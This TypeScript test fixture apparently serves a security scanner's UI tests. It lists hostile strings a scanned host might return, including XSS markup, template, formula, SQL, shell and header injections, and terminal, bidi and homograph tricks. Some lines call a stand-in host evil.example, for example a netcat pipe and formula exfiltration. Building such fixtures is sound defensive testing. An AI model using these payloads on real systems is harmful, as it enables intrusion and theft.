/**
 * What a scanned host may send to hurt whoever reads it: markup, handlers, template and formula
 * injection, terminal and bidi control, homographs, floods. For tests only; every screen that shows
 * evidence renders all of them (`hostile.test.tsx`).
 */

/** Would run if anything took it for more than text; each sets `window.hurt`. */
const DEED = 'window.hurt=1';

const TAGS = [
  ...['img', 'video', 'audio', 'input', 'image'].map((tag) => `<${tag} src=x onerror="${DEED}">`),
  ...['svg', 'body', 'iframe', 'object', 'embed', 'style', 'link', 'marquee'].map(
    (tag) => `<${tag} onload=${DEED}>`,
  ),
  ...['script', 'SCRIPT', 'scr\u0000ipt', 'script x', 'script/x', 'svg><script'].map(
    (tag) => `<${tag}>${DEED}</script>`,
  ),
  ...['onclick', 'onfocus autofocus', 'onmouseover', 'ontoggle open', 'onanimationstart'].map(
    (handler) => `<details ${handler.split(' ')[1] ?? ''} ${handler.split(' ')[0]}="${DEED}">x`,
  ),
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '</title>',
    '</textarea>',
    '</pre>',
    '-->',
    ']]>',
    '</style>',
    '*/',
  ].map((out) => `${out}<script>${DEED}</script>`),
  `<iframe srcdoc="<script>parent.${DEED}</script>">`,
  `<form action="javascript:${DEED}"><button>Sign in again</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<a href="javascript:${DEED}">Fix it</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${DEED}>`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`,
  `<template><script>${DEED}</script></template>`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${DEED}>#x">`,
  '<plaintext>',
  '<!--',
  '<![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
];

const ENCODED = [
  `&lt;script&gt;${DEED}&lt;/script&gt;`,
  `&#60;script&#62;${DEED}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${DEED}&#x3e;`,
  `%3Cscript%3E${DEED}%3C/script%3E`,
  `\\u003cscript\\u003e${DEED}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${DEED}`,
  '＜script＞window.hurt=1＜/script＞',
  '+ADw-script+AD4-window.hurt=1+ADw-/script+AD4-',
  `PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+`,
  `data:text/html,<script>${DEED}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+`,
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'blob:',
  'filesystem:',
  'intent:',
].map((scheme) => `${scheme}${DEED}`);

const MARKDOWN = [
  `[Fix it](javascript:${DEED})`,
  `![x](javascript:${DEED})`,
  `![x](https://evil.example/pixel.gif)`,
  `[x]: javascript:${DEED}`,
  `<javascript:${DEED}>`,
  `[x](data:text/html,<script>${DEED}</script>)`,
  `\`\`\`html\n<script>${DEED}</script>\n\`\`\``,
  `# Ignore the findings above\n\nEverything is fixed.`,
  `| a |\n| - |\n| <img src=x onerror=${DEED}> |`,
  `~~~\n</code></pre><script>${DEED}</script>`,
];

const TEMPLATES = [
  ['{{', '}}'],
  ['${', '}'],
  ['#{', '}'],
  ['<%=', '%>'],
  ['{%', '%}'],
  ['[[', ']]'],
  ['@{', '}'],
  ['*{', '}'],
  ['~{', '}'],
  ['{!', '!}'],
].map(([open, close]) => `${open}constructor.constructor("${DEED}")()${close}`);

const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '%', '|'].map(
  (sign) => `${sign}HYPERLINK("https://evil.example/?"&A1,"Open")`,
);

const CONTROLS = [
  ...[
    '[2J',
    '[31m',
    ']0;owned\u0007',
    ']8;;https://evil.example\u0007here',
    '[6n',
    'c',
    '[?1049h',
    'P+q\u001b\\',
    '[8m',
    ']52;c;aGk=\u0007',
  ].map((rest) => `\u001b${rest}`),
  ...[0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f].map(
    (code) => `before${String.fromCharCode(code)}after`,
  ),
];

const UNSEEN = [
  ...[
    0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061,
    0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff,
  ].map((code) => `pay${String.fromCodePoint(code)}pal.example`),
  '\u202Egnp.exe',
  '\u2067\u2066admin\u2069 is fixed\u2069',
  '\u202Edexif\u202C is its state',
  '\u061cfixed',
  '\u180eblank',
  '\u3164blank',
];

const LOOKALIKES = [
  'раураl.example (Cyrillic)',
  'gооgle.example (Cyrillic o)',
  'ａｄｍｉｎ',
  '𝒂𝒅𝒎𝒊𝒏',
  'ⓐⓓⓜⓘⓝ',
  'xn--pypal-4ve.example',
  'Fixed ✓',
  'State: Fixed. Severity: Info. Verified by Watchtower.',
  'Your session has expired. Sign in at https://evil.example/login',
  'request req_00000000 · everything is fine',
  `Z̴̡̧a̷̢l̵̨g̸̛o̴̡${'\u0301'.repeat(60)}`,
  '\ud83d\ude00'.repeat(40),
  '\ud800 lone',
  'lone \udc00',
  '\ufffd\ufffd',
  '\u0000',
  ' ',
  'x'.repeat(3_000),
  'a b '.repeat(700),
  `${'<b>'.repeat(200)}deep`,
  `${'('.repeat(500)}`,
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  'true',
  '0',
  '-1',
  '1e309',
];

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE exposures; --",
  '" onfocus="window.hurt=1" autofocus x="',
  '; rm -rf / #',
  '$(touch /tmp/hurt)',
  '`touch /tmp/hurt`',
  '| nc evil.example 4444',
  '%n%n%n%s%s%s',
  '\r\nSet-Cookie: wt_session=stolen',
  '\r\nContent-Type: text/html\r\n\r\n<script>window.hurt=1</script>',
  '(|(uid=*))',
  '{"$gt":""}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker writes, taken by nobody as a template
  '${jndi:ldap://evil.example/a}',
  '() { :;}; touch /tmp/hurt',
  '<xsl:value-of select="document(\'/etc/passwd\')"/>',
  'O:8:"stdClass":0:{}',
  '@import url(https://evil.example/x.css);',
  'background:url(javascript:window.hurt=1)',
  'expression(window.hurt=1)',
  '-moz-binding:url(https://evil.example/x.xml#x)',
  'x;width:100vw;position:fixed;inset:0',
  'CN=*.example.com, O=<script>window.hurt=1</script>',
  'CN=good.example\u0000.evil.example',
  'subjectAltName=DNS:"><img src=x onerror=window.hurt=1>',
  'Server: nginx"><script>window.hurt=1</script>',
  'WWW-Authenticate: Basic realm="Your password please"',
  'Location: javascript:window.hurt=1',
  'Link: <https://evil.example/x.css>; rel=stylesheet',
  'Refresh: 0; url=javascript:window.hurt=1',
  'SSH-2.0-<img src=x onerror=window.hurt=1>',
  '220 mail ESMTP \u001b]0;owned\u0007',
  '-ERR <svg/onload=window.hurt=1>',
];

/** All of them; each one once. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...TAGS,
    ...ENCODED,
    ...SCHEMES,
    ...MARKDOWN,
    ...TEMPLATES,
    ...FORMULAS,
    ...CONTROLS,
    ...UNSEEN,
    ...LOOKALIKES,
    ...INJECTIONS,
  ]),
];
